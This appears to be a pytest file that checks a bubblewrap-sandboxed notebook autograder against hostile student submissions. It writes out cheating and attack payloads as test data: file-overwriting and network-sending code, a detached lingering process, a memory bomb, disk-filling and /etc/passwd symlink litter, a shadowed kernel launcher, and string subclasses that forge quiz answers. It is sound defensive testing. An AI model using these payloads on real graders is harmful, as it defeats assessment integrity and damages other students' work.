"""Hostile submissions: no cheat earns a point, no fair student is harmed, nothing outside the
submission's work folder changes, no process outlives grading, and a memory bomb is stopped.

One scratch course (utils.classroom.rehearsal.rehearsal_course: lesson 01_tiny, add_test 2 +
mul_test 3 + sub_test 1 points, plus a one-question quiz lesson 03_quiz) holds every submission; it
is graded once with `python -m utils.grading` (two workers). Each cheat below gave full marks, or
harmed others, before every autograding kernel ran in the bubblewrap sandbox (utils/sandbox/) and
before the grade was decided outside the kernel (utils/grading/; the in-kernel cheats are in
test_cheats.py)."""

from __future__ import annotations

import socket
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

from utils.authoring import nbauthor as A
from utils.lessons import REPO
from utils.notebooks import submission_from
from utils.processes import nbgrader
from utils.scores import read_scores_url
from utils.grading.grade_course import grade_lessons
from utils.grading.settings import course_settings
from utils.sandbox.probe import unavailable
from utils.classroom.rehearsal import rehearsal_course
from helpers import digest
from sandbox_common import ADD, LESSON, NB, PLANTED, QUIZ, TAG, _write, cheats


pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(unavailable() is not None, reason=f"bubblewrap cannot run here: {unavailable()}")]


def vandal(course: Path, port: int) -> str:
    """Writes everywhere it should not, phones home, and leaves a process behind; its own work is right."""
    targets = [course / "submitted" / "good_a" / LESSON / NB, course / "source" / LESSON / "planted.py",
               course / "gradebook.db", *PLANTED]
    return f"""
import os, socket, subprocess, sys
for t in {[str(t) for t in targets]!r} + ['../../../gradebook.db', '../../good_a/01_tiny/tiny.ipynb']:
    try:
        with open(t, 'w') as f:
            f.write('owned')
    except OSError as err:
        print('refused', t, err)
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'hidden tests')
except OSError as err:
    print('no network', err)
subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', 'LINGER-{TAG}'], start_new_session=True)
""" + ADD


def quiz_cells() -> list:
    return [A.md("# Quiz", "quiz_intro"),
            A.solution("q1_answer", "### BEGIN SOLUTION\nq1 = 'c'\n### END SOLUTION"),
            A.tests("q1_test", 1, "from course.quiz import check_choice\ncheck_choice('q1', q1, 'abcd')")]


EVERYTHING = ("class S(str):\n    def __eq__(self, other): return True\n    __hash__ = str.__hash__\n"
              "    def strip(self): return self\n    def lower(self): return self\n"
              "    def __contains__(self, x): return True\n")

QUIZ_ANSWERS = {
    "fair_quiz": "q1 = ' C '",
    "fair_shadows_sum": "sum = 3\nmax = [1, 2]\nq1 = 'c'",
    "str_subclass": EVERYTHING + "q1 = S('z')",
    "str_rebound": EVERYTHING + "str = S\nq1 = S('z')",
    "type_rebound": EVERYTHING + "type = lambda x: str\nq1 = S('z')",
    "isinstance_rebound": EVERYTHING + "isinstance = lambda *a: True\nq1 = S('z')",
}

LAUNCHER = ("import os, sys\nopen('SHADOWED', 'w').write('imported from the submission folder')\n"
            "here = os.path.dirname(os.path.abspath(__file__))\n"
            "sys.path = [p for p in sys.path if os.path.abspath(p or '.') != here]\n"
            "sys.argv.append('--IPKernelApp.exec_lines=get_ipython().input_transformers_cleanup.append(lambda l: [])')\n"
            "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n")


class Listener:
    """A TCP server on the host's loopback that counts connections."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.connections += 1
                conn.close()
            except OSError:
                pass


LEAVES_BEHIND = f"""
import os
os.symlink({str(REPO / 'nbgrader_config.py')!r}, 'feedback.html')
os.symlink('/etc/passwd', 'tiny.ipynb.bak')
os.mkfifo('pipe')
with open('sparse', 'wb') as f:
    f.truncate(2 * 2**30)
try:
    with open('huge', 'wb') as f:
        while True:
            f.write(b'x' * 2**24)
except OSError:
    pass
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    listener = Listener()
    course = rehearsal_course(tmp_path_factory.mktemp("hostile") / "course",
                     extra_config="\nc.SandboxKernelManager.memory_limit_mb = 1024\n")
    A.write(course / "source" / QUIZ / "quiz.ipynb", quiz_cells())
    nbgrader(["generate_assignment", QUIZ, "--force"], cwd=course)
    release = nbformat.read(str(course / "release" / LESSON / NB), as_version=4)
    source = nbformat.read(str(course / "source" / LESSON / NB), as_version=4)
    untouched = nbformat.reads(nbformat.writes(release), as_version=4)

    def base(**over):
        return submission_from(release, source, over)

    for student, add in cheats(course, listener.port).items():
        nb = nbformat.reads(nbformat.writes(untouched), as_version=4)
        next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "add").source = add
        _write(course / "submitted" / student / LESSON, nb)
    for student in ("good_a", "good_b"):
        _write(course / "submitted" / student / LESSON, base())
    _write(course / "submitted" / "vandal" / LESSON, base(add=vandal(course, listener.port)))
    _write(course / "submitted" / "memory_bomb" / LESSON, base(add="blob = bytearray(3 * 2**30)\n" + ADD))
    _write(course / "submitted" / "litter" / LESSON, base(add=LEAVES_BEHIND + ADD))
    shadow = course / "submitted" / "shadow_launcher" / LESSON
    _write(shadow, untouched)
    (shadow / "ipykernel_launcher.py").write_text(LAUNCHER)
    link = course / "submitted" / "symlinked" / LESSON
    _write(link, None)
    (link / NB).symlink_to(course / "source" / LESSON / NB)
    extra = course / "submitted" / "symlinked_data" / LESSON
    _write(extra, base())
    (extra / "data.csv").symlink_to("/etc/hostname")
    edited_roles = base()
    for cell in edited_roles.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "mul":        # a solution cell marked as graded, without points
            meta["grade"] = True
        if meta.get("grade_id") == "add_test":   # a test cell marked as a solution worth 20
            meta.update(solution=True, points=20)
    _write(course / "submitted" / "edited_roles" / LESSON, edited_roles)
    renamed = course / "submitted" / "renamed" / LESSON
    _write(renamed, None)
    nbformat.write(base(), str(renamed / "tiny-Copy1.ipynb"))

    quiz_release = nbformat.read(str(course / "release" / QUIZ / "quiz.ipynb"), as_version=4)
    quiz_source = nbformat.read(str(course / "source" / QUIZ / "quiz.ipynb"), as_version=4)
    for student, answer in QUIZ_ANSWERS.items():
        folder = course / "submitted" / student / QUIZ
        folder.mkdir(parents=True)
        nbformat.write(submission_from(quiz_release, quiz_source, {"q1_answer": answer}), str(folder / "quiz.ipynb"))

    before = {"submitted": digest(course / "submitted"), "source": digest(course / "source")}
    run = grade_lessons(course, [LESSON, QUIZ], workers=2, cell_timeout=20)
    time.sleep(0.5)
    listener.stop = True
    lingering = [p.pid for p in psutil.process_iter(["cmdline"]) if f"LINGER-{TAG}" in " ".join(p.info["cmdline"] or [])]
    planted = [str(p) for p in PLANTED if p.exists()]
    for p in PLANTED:
        if p.exists():
            p.unlink()
    for pid in lingering:
        psutil.Process(pid).kill()
    outcomes = {(o.lesson, o.student): o for o in run.outcomes}
    yield course, outcomes, before, lingering, planted, listener


def _cells(course: Path, lesson: str, student: str) -> dict[str, float]:
    s = course_settings(course)
    return {r.cell: r.score for r in read_scores_url(s.db_url, s.course_id, [lesson]) if r.student == student}


def _total(course: Path, lesson: str, student: str) -> float:
    return sum(_cells(course, lesson, student).values())


@pytest.mark.parametrize("student", ["input_transformer", "ast_transformer", "exception_handler",
                                     "print_keeps_quiet", "secret_reader", "shadow_launcher"])
def test_no_cheat_earns_a_point(graded, student):
    course, outcomes, *_ = graded
    assert _total(course, LESSON, student) == 0, outcomes[(LESSON, student)].line()


def test_the_secret_reader_found_nothing(graded):
    course, *_ = graded
    nb = nbformat.read(str(course / "autograded" / "secret_reader" / LESSON / NB), as_version=4)
    text = "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))
    assert "FOUND []" in text


def test_a_module_in_the_submission_folder_is_never_imported(graded):
    course, *_ = graded
    assert not (course / "autograded" / "shadow_launcher" / LESSON / "SHADOWED").exists()


@pytest.mark.parametrize("student", ["str_subclass", "str_rebound", "type_rebound", "isinstance_rebound"])
def test_forged_quiz_answers_score_zero(graded, student):
    course, outcomes, *_ = graded
    assert _total(course, QUIZ, student) == 0, outcomes[(QUIZ, student)].line()


@pytest.mark.parametrize("student", ["fair_quiz", "fair_shadows_sum"])
def test_fair_quiz_answers_score(graded, student):
    course, outcomes, *_ = graded
    assert _total(course, QUIZ, student) == 1, outcomes[(QUIZ, student)].line()


@pytest.mark.parametrize("student", ["good_a", "good_b", "vandal", "symlinked_data", "renamed", "edited_roles",
                                     "litter"])
def test_fair_work_gets_full_marks(graded, student):
    course, outcomes, *_ = graded
    assert _total(course, LESSON, student) == 6, outcomes[(LESSON, student)].line()


def test_nothing_outside_the_work_folder_changed(graded):
    course, _, before, _, planted, _ = graded
    assert digest(course / "submitted") == before["submitted"]
    assert digest(course / "source") == before["source"]
    assert planted == []


def test_what_a_kernel_leaves_in_its_work_folder_never_reaches_autograded(graded):
    course, *_ = graded
    for student in ("litter", "good_a"):
        folder = course / "autograded" / student / LESSON
        kinds = {p.name: p.is_file() and not p.is_symlink() for p in folder.iterdir()}
        assert kinds == {NB: True, "timestamp.txt": True}, (student, kinds)


def test_no_process_outlives_grading_and_no_network(graded):
    _, _, _, lingering, _, listener = graded
    assert lingering == []
    assert listener.connections == 0


def test_memory_bomb_is_stopped_and_costs_only_its_cell(graded):
    course, outcomes, *_ = graded
    assert _cells(course, LESSON, "memory_bomb") == {"add_test": 0, "mul_test": 3, "sub_test": 1}, \
        outcomes[(LESSON, "memory_bomb")].line()


def test_symlinks_are_refused_with_a_reason(graded):
    _, outcomes, *_ = graded
    o = outcomes[(LESSON, "symlinked")]
    assert o.status == "zero" and "symbolic link" in o.reason, o.line()
    assert "refused" in " ".join(outcomes[(LESSON, "symlinked_data")].notes)


def test_edited_cell_roles_are_restored_and_reported(graded):
    course, outcomes, *_ = graded
    o = outcomes[(LESSON, "edited_roles")]
    assert _cells(course, LESSON, "edited_roles") == {"add_test": 2, "mul_test": 3, "sub_test": 1}, o.line()
    assert "cell 'mul' had its nbgrader role edited" in " ".join(o.notes)


def test_a_notebook_under_another_name_is_graded_and_reported(graded):
    _, outcomes, *_ = graded
    assert "graded tiny-Copy1.ipynb" in " ".join(outcomes[(LESSON, "renamed")].notes)
